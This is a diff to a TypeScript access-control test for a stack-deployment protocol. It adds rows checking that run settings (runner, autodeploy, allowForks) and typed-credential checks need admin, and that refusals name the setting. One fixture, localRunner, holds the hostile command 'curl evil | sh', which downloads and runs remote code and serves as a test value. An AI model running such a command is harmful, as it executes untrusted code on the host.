@@ -2,7 +2,8 @@
 // space, in the root above it and in a sibling: who is allowed, who is refused (NotFound for what
 // they cannot see, Forbidden for what they see but may not do), that a refusal writes nothing, and
 // that what is answered names nothing the user may not see. The method list comes from the
-// protocol itself, so a new method without a row here fails this test.
+// protocol itself, so a new method without a row here fails this test. A method whose params decide
+// the role it needs has further rows in VARIANTS, each checked the same way.
 import { strict as assert } from 'node:assert';
 import { readFileSync } from 'node:fs';
 import * as path from 'node:path';
@@ -49,6 +50,8 @@ interface Row {
   check?(c: Case, result: unknown): void;
   /** Whether an allowed call changes the registry; without it, the registry must stay byte-identical. */
   changes?(c: Case): boolean;
+  /** Checks a refusal's message further. */
+  refusal?(c: Case, message: string): void;
 }
 
 const yes = () => true;
@@ -183,6 +186,53 @@ const ROWS: Record<string, Row> = {
   },
 };
 
+const stackAdmin = spaceRole('admin');
+const newStack = (c: Case, settings: object) => ({ name: `new ${c.place}`, spaceId: SPACE[c.place], integrationId: 'main', repository: 'acme/network', branch: 'main', verify: false, ...settings });
+const localRunner = { type: 'local', plan: ['sh', '-c', 'curl evil | sh'], apply: null };
+const refusalNames = (setting: RegExp) => (c: Case, message: string) => {
+  if (c.at('write') && !c.at('admin')) {
+    assert.match(message, setting, 'the refusal names the setting');
+    assert.match(message, /needs admin on the space "platform"/, 'and the role it needs');
+  }
+};
+
+/**
+ * Rows for params that need more than the method's plain row: settings that decide what code runs
+ * where are admin's (writers set the branch and the project root), and checking typed credentials
+ * needs the role that creates integrations (admin of some space).
+ */
+const VARIANTS: Record<string, Record<string, Row>> = {
+  [Protocol.StacksCreate.method]: {
+    'the default run settings, given': { params: (c) => newStack(c, { runner: { type: 'pipelines', pipeline: 'stackhook' }, autodeploy: false, allowForks: false }), expect: stackWrite, changes: yes },
+    allowForks: { params: (c) => newStack(c, { allowForks: true }), expect: stackAdmin, changes: yes, refusal: refusalNames(/Setting allowForks of a new stack/) },
+    autodeploy: { params: (c) => newStack(c, { autodeploy: true }), expect: stackAdmin, changes: yes, refusal: refusalNames(/Setting autodeploy of a new stack/) },
+    'another pipeline': { params: (c) => newStack(c, { runner: { type: 'pipelines', pipeline: 'deploy-prod' } }), expect: stackAdmin, changes: yes, refusal: refusalNames(/Setting the runner of a new stack/) },
+    'a local runner': { params: (c) => newStack(c, { runner: localRunner }), expect: stackAdmin, changes: yes, refusal: refusalNames(/Setting the runner of a new stack/) },
+  },
+  [Protocol.StacksUpdate.method]: {
+    branch: { params: (c) => ({ stackId: STACK[c.place], branch: 'develop', verify: false }), expect: stackWrite, changes: yes },
+    'run settings as they are': { params: (c) => ({ stackId: STACK[c.place], runner: { pipeline: 'stackhook', type: 'pipelines' }, autodeploy: false, allowForks: false }), expect: stackWrite, changes: yes },
+    allowForks: { params: (c) => ({ stackId: STACK[c.place], allowForks: true }), expect: stackAdmin, changes: yes, refusal: refusalNames(/Changing allowForks of the stack "platform-net"/) },
+    autodeploy: { params: (c) => ({ stackId: STACK[c.place], autodeploy: true }), expect: stackAdmin, changes: yes, refusal: refusalNames(/Changing autodeploy of the stack/) },
+    'the pipeline name': { params: (c) => ({ stackId: STACK[c.place], runner: { type: 'pipelines', pipeline: 'deploy-prod' } }), expect: stackAdmin, changes: yes, refusal: refusalNames(/Changing the runner of the stack/) },
+    'a local runner': { params: (c) => ({ stackId: STACK[c.place], runner: localRunner }), expect: stackAdmin, changes: yes, refusal: refusalNames(/Changing the runner of the stack/) },
+    'all three with the branch': {
+      params: (c) => ({ stackId: STACK[c.place], branch: 'develop', runner: localRunner, autodeploy: true, allowForks: true, verify: false }),
+      expect: stackAdmin,
+      changes: yes,
+      refusal: refusalNames(/Changing the runner, autodeploy and allowForks of the stack/),
+    },
+  },
+  [Protocol.IntegrationsTest.method]: {
+    // Typed credentials make the server call Bitbucket for the user: only an admin (of any space) may.
+    'typed credentials': {
+      params: () => ({ username: 'mallory@example.com', secret: 'ATATT-someone-elses-token' }),
+      expect: (c) => (c.role === 'admin' ? 'allowed' : 'Forbidden'),
+      refusal: (_c, message) => assert.match(message, /needs admin on a space/),
+    },
+  },
+};
+
 /** Runs as the book knows them, with nothing executing: what the run requests read and act on. */
 async function stillExecution(world: TestWorld): Promise<RunService> {
   const base = world.as('ana');
@@ -276,6 +326,7 @@ describe('access: every protocol method × role × place', function () {
     assert.deepEqual(requests.filter((method) => !(method in ROWS)), [], 'requests without a row');
     assert.deepEqual(Object.keys(ROWS).filter((method) => !requests.includes(method)), [], 'rows without a request');
     assert.deepEqual(handlers.map((h) => h.method).sort(), [...requests].sort(), 'the handlers answer exactly these');
+    assert.deepEqual(Object.keys(VARIANTS).filter((method) => !requests.includes(method)), [], 'variants of no request');
   });
 
   for (const role of ROLES) {
@@ -289,10 +340,13 @@ describe('access: every protocol method × role × place', function () {
           visible: place === 'own' && role !== 'none',
         };
         const failures: string[] = [];
-        for (const handler of handlers) {
-          const row = ROWS[handler.method];
+        const rows = handlers.flatMap((handler) => [
+          { handler, name: handler.method, row: ROWS[handler.method] },
+          ...Object.entries(VARIANTS[handler.method] ?? {}).map(([variant, row]) => ({ handler, name: `${handler.method} (${variant})`, row })),
+        ]);
+        for (const { handler, name, row } of rows) {
           if (!row) {
-            failures.push(`${handler.method}: no row`);
+            failures.push(`${name}: no row`);
             continue;
           }
           const world = await testWorld('ana');
@@ -304,26 +358,39 @@ describe('access: every protocol method × role × place', function () {
             const params = row.params(c);
             let result: unknown;
             const bob = { ...world.as('bob'), execution: await stillExecution(world) };
-            const outcome = await kindOf(async () => (result = await handler.invoke(bob, params, scope)));
+            let refusal = '';
+            const outcome = await kindOf(async () => {
+              try {
+                result = await handler.invoke(bob, params, scope);
+              } catch (error) {
+                refusal = (error as Error).message;
+                throw error;
+              }
+            });
             const expected = row.expect(c);
             if (outcome !== expected) {
-              failures.push(`${handler.method}: expected ${expected}, got ${outcome}`);
+              failures.push(`${name}: expected ${expected}, got ${outcome}`);
               continue;
             }
             const written = readFileSync(registry, 'utf8') !== before;
             if (outcome !== 'allowed') {
-              if (written) failures.push(`${handler.method}: refused, but the registry was written`);
+              if (written) failures.push(`${name}: refused, but the registry was written`);
+              try {
+                row.refusal?.(c, refusal);
+              } catch (error) {
+                failures.push(`${name}: ${(error as Error).message.split('\n')[0]}`);
+              }
               continue;
             }
-            if (written && !(row.changes?.(c) ?? false)) failures.push(`${handler.method}: changes nothing, but the registry was written`);
+            if (written && !(row.changes?.(c) ?? false)) failures.push(`${name}: changes nothing, but the registry was written`);
             // Words the user typed (or an id derived from them) are theirs to see.
             const given = JSON.stringify(params).toLowerCase();
             const answered = JSON.stringify(result ?? null);
-            for (const word of hiddenWords(role)) if (answered.includes(word) && !given.includes(word.toLowerCase())) failures.push(`${handler.method}: the answer names "${word}"`);
+            for (const word of hiddenWords(role)) if (answered.includes(word) && !given.includes(word.toLowerCase())) failures.push(`${name}: the answer names "${word}"`);
             try {
               row.check?.(c, result);
             } catch (error) {
-              failures.push(`${handler.method}: ${(error as Error).message.split('\n')[0]}`);
+              failures.push(`${name}: ${(error as Error).message.split('\n')[0]}`);
             }
           } finally {
             world.close();
